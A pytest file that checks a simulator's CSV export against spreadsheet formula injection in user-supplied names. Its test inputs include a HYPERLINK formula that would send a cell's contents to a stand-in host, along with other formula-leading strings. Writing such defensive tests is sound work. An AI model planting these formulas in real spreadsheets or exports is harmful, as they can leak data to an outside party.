"""CSV export and formula injection (issue 13, point 7): names are user text, and a name that
starts like a spreadsheet formula must reach the spreadsheet as text."""

from __future__ import annotations

import csv

import pytest

from helpers import make
from simulator.sim.engine import run
from ui.report import export_samples_csv
from ui.report.samples import text_cell

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&B3,"click")&"', "+1+2", "-2+3", "@SUM(A1:A9)",
           "\tTabbed", "\rReturned", "\uff1dFullwidth equals"]


def _scenario(names):
    body = ""
    for name in names:
        escaped = name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
        body += f'\n[[alternatives]]\nname = "{escaped}"\n[[alternatives.items]]\nname = "Gain"\n' \
                'kind = "benefit"\namount = 100\nend_year = 1\n'
    return make(body, horizon=1, iterations=20)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_that_starts_like_a_formula_is_written_as_text(name):
    assert text_cell(name) == "'" + name


@pytest.mark.parametrize("name", ["ERP system", "Net-zero plan", "A = B", "1+1", ""])
def test_ordinary_names_are_left_as_they_are(name):
    assert text_cell(name) == name


def test_the_exported_header_has_no_live_formula(tmp_path):
    results = run(_scenario(HOSTILE + ["Plain"]))
    target = tmp_path / "futures.csv"
    export_samples_csv(results, target)
    with open(target, encoding="utf-8-sig", newline="") as f:
        header = next(csv.reader(f))
    assert header[0] == "future"
    names = results.names          # as the file reader kept them (it trims surrounding spaces)
    assert names[0] == HOSTILE[0] and len(names) == len(HOSTILE) + 1
    for name in names[:-1]:
        if name.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")):
            assert f"'{name}: NPV" in header and f"'{name}: cash year 0" in header
    assert "Plain: NPV" in header
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in header)
